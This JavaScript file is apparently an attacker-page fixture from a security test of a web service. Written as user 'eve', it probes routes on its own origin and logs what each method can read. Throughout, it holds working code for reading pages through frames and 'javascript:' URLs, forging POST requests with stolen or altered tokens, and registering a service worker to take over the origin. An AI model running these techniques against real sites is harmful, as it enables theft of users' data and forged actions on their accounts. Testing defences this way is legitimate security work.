// What a page can do with addresses of its own origin: each way answers what it could read.
const PATIENCE = 1500;
const pause = (time) => new Promise((done) => setTimeout(done, time));
const marked = (path, way) => `${path}${path.includes("?") ? "&" : "?"}way=${way}`;
const text = (answer) => answer.text().then((read) => ({ read, url: answer.url }));
const element = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));

/** What is readable of a window or a frame; one that never showed anything has nothing. */
function seen(other) {
  const found = {};
  try {
    const isNew = other.document.URL === "about:blank";
    found.read = isNew ? "" : other.document.documentElement.textContent.trim();
  } catch (error) {
    found.read = "";
  }
  try {
    found.url = other.location.href;
  } catch (error) {
    found.url = "";
  }
  return found;
}

/** Whether a window or a frame shows its page now, or something that may not be read. */
function hasSettled(other, before) {
  try {
    return other.document.URL !== before && other.document.readyState === "complete";
  } catch (error) {
    return true;
  }
}

async function settled(other, before = "about:blank") {
  for (let time = 0; time < 2 * PATIENCE && !hasSettled(other, before); time += 50) await pause(50);
}

/** Reads a window, and tries to run a script in it that tells what is there. */
async function robbed(other) {
  await settled(other);
  const found = seen(other);
  try {
    other.location = "javascript:opener && (opener.stolen = document.documentElement.textContent)";
    await pause(100);
  } catch (error) {
    // It is of another origin.
  }
  found.read = found.read || window.stolen || "";
  delete window.stolen;
  other.close();
  return found;
}

async function framed(frame) {
  if (frame.contentWindow) await settled(frame.contentWindow);
  const found = frame.contentWindow ? seen(frame.contentWindow) : {};
  frame.remove();
  return found;
}

function form(method, action, fields, target) {
  const sent = element("form", { method, target });
  sent.setAttribute("action", action);
  for (const [name, value] of Object.entries(fields)) {
    sent.appendChild(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  sent.submit();
  sent.remove();
}

async function byForm(method, path, way, fields) {
  const name = `form-${Math.random()}`;
  const other = window.open("about:blank", name);
  form(method, marked(path, way), method === "get" ? { way } : fields, name);
  return robbed(other);
}

async function byRequest(path, method) {
  const request = new XMLHttpRequest();
  request.open(method, path);
  request.send("token=x");
  await new Promise((done) => (request.onloadend = done));
  return { read: request.responseText };
}

/** A page fetched ahead of time; it cannot be read, but must not be sent either. */
async function ahead(kind, path) {
  const script = element("script", { type: "speculationrules", textContent: JSON.stringify({ [kind]: [{ source: "list", urls: [path], eagerness: "immediate" }] }) });
  await pause(PATIENCE);
  script.remove();
  return {};
}

async function loaded(name, values) {
  const made = element(name, values);
  await pause(PATIENCE / 2);
  made.remove();
  return {};
}

/** A form in a frame without an origin, as those of the service's own pages are. */
async function byNobody(path, way, fields) {
  const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`).join("");
  const page = `<form method="post" target="_blank" action="${location.origin}${marked(path, way)}">${inputs}</form><script>document.forms[0].submit()</script>`;
  const frame = element("iframe", { sandbox: "allow-forms allow-scripts allow-popups", srcdoc: page });
  await pause(PATIENCE);
  frame.remove();
  return {};
}

const READING = {
  fetch: (path) => fetch(path).then(text),
  "no-cors": (path) => fetch(path, { mode: "no-cors" }).then(text),
  range: (path) => fetch(path, { headers: { Range: "bytes=1-" } }).then(text),
  cached: (path) => fetch(path.split(/[?&]way=/)[0], { mode: "same-origin", cache: "only-if-cached" }).then(text),
  request: (path) => byRequest(path, "GET"),
  frame: (path) => framed(element("iframe", { src: path })),
  object: (path) => framed(element("object", { data: path })),
  embed: (path) => loaded("embed", { src: path }),
  script: (path) => loaded("script", { src: path }),
  image: (path) => loaded("img", { src: path }),
  style: (path) => loaded("link", { rel: "stylesheet", href: path }),
  prefetch: (path) => loaded("link", { rel: "prefetch", href: path }),
  events: async (path) => {
    const source = new EventSource(path);
    await pause(PATIENCE / 2);
    source.close();
    return {};
  },
  thread: async (path) => {
    const thread = new Worker(path);
    await pause(PATIENCE / 2);
    thread.terminate();
    return {};
  },
  link: async (path) => {
    element("a", { href: path, download: "taken" }).click();
    return loaded("i", {});
  },
  window: (path) => robbed(window.open(path)),
  form: (path) => byForm("get", path, "form", {}),
};

/** A browser fetches ahead only for a page that somebody looks at: before windows are opened. */
const AHEAD = { speculation: (path) => ahead("prefetch", path), prerender: (path) => ahead("prerender", path) };

/** The page goes away itself, and a window that it opened before reads on. */
const LEAVING = {
  opener: async (path) => {
    const home = new URL("page.html", location).href;
    const leaving = window.open(home);
    await settled(leaving);
    const reading = leaving.open(home, `reader-${Math.random()}`);
    await settled(reading);
    leaving.location = path;
    await settled(leaving, home);
    const found = seen(reading.opener);
    leaving.close();
    reading.close();
    // What it still shows is eve's own.
    return found.url === home ? {} : found;
  },
};
const OPENING = { opening: (path) => robbed(window.open(path)) };

const CHANGING = {
  fetch: (path) => fetch(path, { method: "POST", body: new URLSearchParams({ token: "x", sure: "yes" }) }).then(text),
  "no-cors": (path) => fetch(path, { method: "POST", mode: "no-cors", body: "token=x" }).then(text),
  request: (path) => byRequest(path, "POST"),
  beacon: async (path) => {
    navigator.sendBeacon(path, new URLSearchParams({ token: "x" }));
    return loaded("i", {});
  },
  ping: async (path) => {
    element("a", { href: "#pinged", ping: path }).click();
    return loaded("i", {});
  },
  frame: (path) => {
    const name = `frame-${Math.random()}`;
    const frame = element("iframe", { name });
    form("post", path, { sure: "yes" }, name);
    return framed(frame);
  },
  form: (path) => byForm("post", path, "form", { sure: "yes" }),
  // With what eve's own page of the service gave her.
  hers: (path, token) => byForm("post", path, "hers", { token, sure: "yes" }),
  nobody: (path, token) => byNobody(path, "nobody", { token: `${token}x`, sure: "yes" }),
  "hers-nobody": (path, token) => byNobody(path, "hers-nobody", { token, sure: "yes" }),
};

const HEADING = {
  fetch: (path) => fetch(path, { method: "HEAD" }).then((answer) => ({ read: answer.ok ? [...answer.headers].join() : "" })),
};

const WAYS = {
  page: { GET: READING, POST: CHANGING, HEAD: HEADING },
  ahead: { GET: AHEAD },
  leaving: { GET: LEAVING },
  opening: { GET: OPENING },
  background: { GET: { background: inBackground }, POST: { background: inBackground } },
};

/** Tries ways of one kind at some routes, all at once; `name` is added to the names of the ways. */
async function attack(kind, routes, name = "") {
  const tries = routes.flatMap(([method, path, token]) =>
    Object.entries(WAYS[kind][method] ?? {}).map(async ([way, go]) => {
      const target = marked(path, way + name);
      const found = await Promise.race([go(target, token, method), pause(6 * PATIENCE)]).catch(() => ({}));
      return [method, path, way + name, (found?.read || "").slice(0, 400), found?.url || ""];
    }),
  );
  return Promise.all(tries);
}

/** Makes eve's worker that of the whole origin. */
async function settle() {
  window.told = [];
  navigator.serviceWorker.onmessage = (event) => window.told.push(event.data);
  const registration = await navigator.serviceWorker.register("/user/eve/worker.js", { scope: "/" });
  while (!registration.active) await pause(50);
  return registration.scope;
}

/** Has the browser fetch in the background. */
async function inBackground(path, token, method) {
  const registration = await navigator.serviceWorker.ready;
  const options = method === "POST" ? { method, body: `token=${token}` } : { method, headers: { Range: "bytes=1-" } };
  const id = `b${Math.random()}`;
  const fetching = await registration.backgroundFetch.fetch(id, [new Request(path, options)], { title: id });
  const record = await fetching.match(path).catch(() => undefined);
  const answer = await Promise.race([record?.responseReady, pause(2 * PATIENCE)]).catch(() => undefined);
  await pause(2 * PATIENCE);
  return answer ? text(answer) : {};
}
